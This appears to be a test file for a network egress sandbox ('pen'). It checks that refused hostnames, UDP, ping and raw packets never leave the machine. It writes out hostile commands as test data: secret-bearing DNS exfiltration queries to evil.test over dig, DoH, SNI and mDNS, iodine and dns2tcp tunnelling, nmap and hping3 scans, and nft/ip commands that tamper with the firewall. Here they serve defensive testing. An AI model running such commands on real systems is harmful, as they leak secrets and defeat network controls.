/** A refused name stays on the machine: no server is asked for it, and no packet of any kind leaves. */
import { expect } from 'bun:test'
import { runSteps } from './steps.ts'
import { forEachKind } from './world.ts'
import { EVIL, UP } from './zones.ts'

const SECRET = 'c0ffee-secret'
const hello = (name: string) =>
  `openssl s_client -connect ${name}:443 -servername ${name} </dev/null; openssl s_client -proxy 127.0.0.1:1023 -connect ${name}:443 </dev/null`

forEachKind(
  'P7 a refused name is in no query, in any spelling or protocol',
  async (world, project) => {
    const heard = world.listen()
    const name = (n: number) => `${SECRET}${n}.evil.test`
    const { steps } = await runSteps(
      project,
      {
        allowed: 'curl -sS http://allowed.test/',
        getent: `getent hosts ${name(1)}; getent ahostsv6 ${name(2)}`,
        dig: `dig +time=1 +tries=1 ${name(3)}; dig +tcp +time=1 +tries=1 ${name(4)}`,
        digTypes: `for t in AAAA TXT MX NULL ANY PTR SRV HTTPS; do dig +time=1 +tries=1 +short $t ${name(5)}; done`,
        digOut: `dig +time=1 +tries=1 @${EVIL} ${name(6)}; dig +time=1 +tries=1 @192.0.2.2 ${name(7)}`,
        digOutTcp: `dig +tcp +time=1 +tries=1 @192.0.2.2 ${name(8)}; dig -6 +time=1 +tries=1 @2600:beef::10 ${name(9)}`,
        digStub: `dig +time=1 +tries=1 @127.0.0.53 ${name(10)}`,
        host: `curl -sS -H 'Host: ${name(11)}' http://allowed.test/; curl -sS http://${name(12)}/`,
        tls: hello(name(13)),
        sni: `openssl s_client -connect allowed.test:443 -servername ${name(14)} </dev/null`,
        proxy: `curl -sS -x $PEN_PROXY http://${name(15)}/; curl -sS -x $PEN_PROXY https://${name(16)}/`,
        dot: `timeout 3 openssl s_client -connect 192.0.2.2:853 </dev/null`,
        doh: `curl -sS -m3 'https://192.0.2.2/dns-query?name=${name(17)}'; curl -sS -m3 --doh-url https://evil.test/dns-query https://${name(18)}/`,
        mdns: `dig +time=1 +tries=1 -p 5353 @224.0.0.251 ${name(19)}; dig +time=1 +tries=1 -p 5355 @224.0.0.252 ${name(20)}`,
      },
      { allow: ['allowed.test:80', 'allowed.test:443'] },
    )
    expect(steps.allowed.said).toBe(`hello from ${UP} 80\n`)
    expect(steps.dig.said).toContain(`${name(3)}. 60\tIN\tA\t198.18.`)
    expect(steps.digTypes.said).toBe('')
    // The stub differs from the real servers in this: it has an answer for every name.
    for (const step of ['dig', 'digOut'] as const) expect(steps[step].said).toContain('198.18.')
    // In a guest no server listens at this address.
    expect(steps.digStub.said.includes('198.18.')).toBe(!project.isMachine)
    // A guest whose instructions QEMU translates takes seconds to start so many programs.
    for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(project.isMachine ? 10_000 : 1000)
    expect(new Set(heard.names)).toEqual(new Set(['allowed.test']))
    // A slow guest is silent for so long that the gateway dials the allowed server, at any step. The first bytes are judged all
    // the same.
    const left = project.isMachine
      ? [...new Set(heard.left)].filter(to => to !== `tcp ${UP} 443`)
      : heard.left
    expect(left).toEqual([`tcp ${UP} 80`])
    expect(world.read('outside').filter(line => line.includes(SECRET))).toEqual([])
  },
  { containers: true },
)

forEachKind(
  'P11 an allowed name that does not exist is reported as such, and a refused one as refused',
  async (world, project) => {
    const heard = world.listen()
    const { err } = await project.run(
      `curl -s https://no_such.allowed.test/; curl -s https://${SECRET}.evil.test/; true`,
      { allow: ['no_such.allowed.test:443'] },
    )
    expect(err).toContain(
      'pen: not reached: no_such.allowed.test:443: the policy allows it, but no_such.allowed.test does not exist',
    )
    expect(err).toContain(
      `pen: refused: ${SECRET}.evil.test:443; to allow it: pen allow ${SECRET}.evil.test:443\n`,
    )
    expect(new Set(heard.names)).toEqual(new Set(['no_such.allowed.test']))
  },
  { users: 'ordinary' },
)

forEachKind(
  'P7 no datagram, ping or raw packet leaves, and the program gets an error at once',
  async (world, project) => {
    const heard = world.listen()
    project.write(
      'send.py',
      `
import errno, socket, sys, time
def attempt(label, make):
    began = time.monotonic()
    try: said = make()
    except OSError as e: said = errno.errorcode.get(e.errno, str(e))
    print(label, said, int((time.monotonic() - began) * 1000))
def udp(address, port, family=socket.AF_INET, kind=socket.SOCK_DGRAM, protocol=0):
    def go():
        s = socket.socket(family, kind, protocol); s.settimeout(2)
        s.connect((address, port)); s.send(b'x' * 1200); return s.recv(10)
    return go
def send_only(address, port, family=socket.AF_INET):
    def go():
        s = socket.socket(family, socket.SOCK_DGRAM)
        return 'sent %d' % s.sendto(b'x', (address, port))
    return go
attempt('udp', udp('${EVIL}', 9999))
attempt('quic', udp('${EVIL}', 443))
attempt('ntp', udp('evil.test', 123))
attempt('udp6', udp('2600:beef::66', 443, socket.AF_INET6))
attempt('sendto', send_only('${EVIL}', 9998))
attempt('broadcast', send_only('255.255.255.255', 9))
attempt('multicast', send_only('224.0.0.251', 5353))
attempt('udplite', udp('${EVIL}', 9999, socket.AF_INET, socket.SOCK_DGRAM, 136))
attempt('sctp', udp('${EVIL}', 9999, socket.AF_INET, socket.SOCK_STREAM, 132))
attempt('dccp', udp('${EVIL}', 9999, socket.AF_INET, 6, 33))
attempt('mptcp', udp('${EVIL}', 9999, socket.AF_INET, socket.SOCK_STREAM, 262))
attempt('ping-socket', lambda: (lambda s: (s.settimeout(1), s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('${EVIL}', 0)), s.recv(9)))(socket.socket(2, 2, 1)))
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET, socket.AF_NETLINK, 40):
    attempt('raw %d' % family, lambda: socket.socket(family, socket.SOCK_RAW, 1).close())
attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
`,
    )
    const { steps, audit } = await runSteps(
      project,
      {
        send: '/usr/bin/python3 send.py',
        ping: `ping -c1 -W1 ${EVIL}; ping -6 -c1 -W1 2600:beef::66`,
        hping: `timeout 5 hping3 -c 2 -S -p 80 ${EVIL}; timeout 5 hping3 -c 2 --udp -p 80 ${EVIL}; timeout 5 hping3 -1 -c 2 ${EVIL}`,
        nmap: `timeout 15 nmap -n -Pn -sT --max-retries 0 -p 22,80,443,5432,8080 ${EVIL} 2>&1`,
        iodine: `timeout 4 iodine -f -P x -r evil.test`,
        dns2tcp: `timeout 4 dns2tcpc -c -z evil.test 127.0.0.1; timeout 4 dns2tcpc -z evil.test 192.0.2.2`,
        namespace: `ip route add 10.0.0.0/8 dev lo; nft flush ruleset; ip link set lo down; ip link add dummy0 type dummy`,
      },
      { allow: ['allowed.test:80'] },
    )
    const sent = new Map(
      steps.send.said.split('\n').map(line => [line.replace(/ \S+ \S+$/, ''), line.split(' ')]),
    )
    const answer = (label: string) => sent.get(label)?.at(-2)
    // QEMU passes on the error for an IPv6 datagram with the sender ::1, and the guest's kernel drops it.
    const isUnheard = (line: string): boolean => project.isMachine && line.startsWith('udp6 ')
    for (const label of ['udp', 'quic', 'ntp', ...(project.isMachine ? [] : ['udp6'])])
      expect([label, answer(label)]).toEqual([label, 'ECONNREFUSED'])
    for (const line of steps.send.said.trim().split('\n'))
      if (!isUnheard(line))
        expect(Number(line.split(' ').at(-1))).toBeLessThan(project.isMachine ? 1000 : 100)
    for (const label of [
      'udplite',
      'sctp',
      'dccp',
      'mptcp',
      'ping-socket',
      'raw 2',
      'raw 10',
      'raw 17',
      'raw 16',
      'vsock',
    ])
      expect([label, answer(label)]).toEqual([
        label,
        expect.stringMatching(/^E(PROTONOSUPPORT|PERM|AFNOSUPPORT)$/),
      ])
    // The image of a container has no hping, nft and nmap. The other programs try the same calls.
    const hostTools = !project.isContainer
    if (hostTools) expect(steps.hping.said.match(/Operation not permitted/g)?.length).toBe(3)
    expect(steps.ping.code).not.toBe(0)
    expect(steps.namespace.said.match(/Operation not permitted|not supported/g)?.length).toBe(
      hostTools ? 4 : 3,
    )
    for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(project.isMachine ? 15_000 : 5000)

    expect(heard.left).toEqual([])
    expect(heard.names).toEqual([])
    const records = audit.map(({ kind, name, address, port }) => `${kind} ${name ?? address} ${port}`)
    // A port scan makes one record for each port.
    expect(records.filter(line => line.startsWith('connection-denied')).sort()).toEqual(
      (hostTools ? [22, 443, 5432, 80, 8080] : []).map(port => `connection-denied ${EVIL} ${port}`),
    )
    expect(records.filter(line => line.startsWith('flow-refused')).sort()).toEqual([
      `flow-refused ${EVIL} 443`,
      `flow-refused ${EVIL} 9998`,
      `flow-refused ${EVIL} 9999`,
      'flow-refused 2600:beef::66 443',
      'flow-refused evil.test 123',
    ])
  },
  { containers: true },
)
